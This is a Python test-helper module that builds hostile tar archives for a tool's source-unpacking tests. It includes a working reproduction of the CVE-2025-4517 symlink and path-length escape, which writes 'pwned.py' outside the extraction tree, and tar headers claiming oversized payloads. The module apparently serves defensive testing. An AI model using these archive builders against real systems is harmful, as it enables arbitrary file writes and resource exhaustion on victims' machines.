"""Hostile `--source` archives, built in the tests that use them (nothing hostile is checked in).

`realpath_overflow` is the structure of CVE-2025-4517 (Python's tarfile before 3.11.13, 3.12.11, 3.13.4): a chain
of folders with long names, each reached through a one-letter link, so that the lexical member path stays short
while its resolved path outgrows PATH_MAX; `os.path.realpath` (which tarfile's `data` filter relies on) stops
resolving there and goes on lexically, the kernel does not. A last link climbs out through the chain, and a file
is written through it, into `outside`.
"""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

PATH_MAX = 4096
STEPS = "abcdefghijklmnop"  # one link per folder of the chain


def member(name: str, kind=tarfile.REGTYPE, data: bytes = b"x = 1\n", link: str = "", size: int | None = None):
    """A (TarInfo, bytes or None) pair, written as given (tarfile.add would normalise it)."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, (data if kind == tarfile.REGTYPE else None)


def write_tgz(path: Path, members) -> Path:
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def component_length(dest: str | Path) -> int:
    """The folder-name length at which the chain, unpacked under `dest`, overflows PATH_MAX at its last link (as
    CPython's own test of the hole picks it)."""
    return min(255, (PATH_MAX - (len(str(dest)) + 1)) // (len(STEPS) + 1))


def realpath_overflow(outside: Path, component: int, top: str = "") -> list:
    """The members of the CVE-2025-4517 archive: the chain (folders of `component` letters, each with a one-letter
    link beside it), a link at its end pointing back up to the tree's root (the filter cannot see that, the path is
    too long for it), `escape` through that link and 17 levels further up, then down to `outside`, and a file
    `escape/pwned.py`. `top` puts it all under one top folder (stripped when a source is unpacked)."""
    pre = f"{top}/" if top else ""
    comp = "d" * component
    out, path = [], ""
    for step in STEPS:
        out.append(member(pre + os.path.join(path, comp), tarfile.DIRTYPE))
        out.append(member(pre + os.path.join(path, step), tarfile.SYMTYPE, link=comp))
        path = os.path.join(path, comp)
    linkpath = os.path.join(*STEPS, "l" * 254)
    out.append(member(pre + linkpath, tarfile.SYMTYPE, link=os.path.join(*[".."] * len(STEPS))))
    up = os.path.join(*[".."] * (len(STEPS) + 1 + (1 if top else 0)))
    out.append(member(pre + "escape", tarfile.SYMTYPE, link=os.path.join(linkpath, up, str(outside).lstrip("/"))))
    out.append(member(pre + "escape/pwned.py", data=b"print('written outside the tree')\n"))
    return out


def pax_header_claiming(size: int, name: str = "miles/big.py") -> bytes:
    """A raw (uncompressed) tar stream whose first header is a pax extended header claiming `size` bytes of
    payload, followed by only a few of them: tarfile would read the claimed size whole before parsing it."""
    header = tarfile.TarInfo("././@PaxHeader")
    header.type, header.size = tarfile.XHDTYPE, size
    block = header.tobuf(format=tarfile.USTAR_FORMAT)
    record = f"path={name}\n"
    record = f"{len(record) + len(str(len(record))) + 1} {record}"
    return block + record.encode().ljust(512, b"\0") + b"\0" * 4096


def gnu_longname_claiming(size: int) -> bytes:
    """The same with a GNU long-name (`L`) header."""
    header = tarfile.TarInfo("././@LongLink")
    header.type, header.size = tarfile.GNUTYPE_LONGNAME, size
    return header.tobuf(format=tarfile.USTAR_FORMAT) + b"miles/x.py".ljust(512, b"\0") + b"\0" * 4096
